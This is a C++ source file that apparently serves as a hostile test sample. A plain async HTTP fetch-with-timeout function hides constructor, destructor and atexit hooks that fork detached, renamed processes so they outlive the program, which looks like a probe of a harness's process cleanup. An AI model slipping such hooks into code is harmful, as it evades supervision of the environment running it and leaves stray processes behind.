// Forks in everything that runs at the end of a process; the rest is an honest solution.
#include <sys/prctl.h>
#include <unistd.h>

#include <cstdlib>
#include <utility>

#include "timeout.hpp"

namespace {

void survive() {
  if (::fork() != 0) return;
  ::setsid();
  ::prctl(PR_SET_NAME, "ht-survivor");
  ::sleep(600);
  ::_exit(0);
}

[[gnu::destructor]] void at_the_end() { survive(); }

[[gnu::constructor]] void attack() {
  std::atexit(survive);
  std::at_quick_exit(survive);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
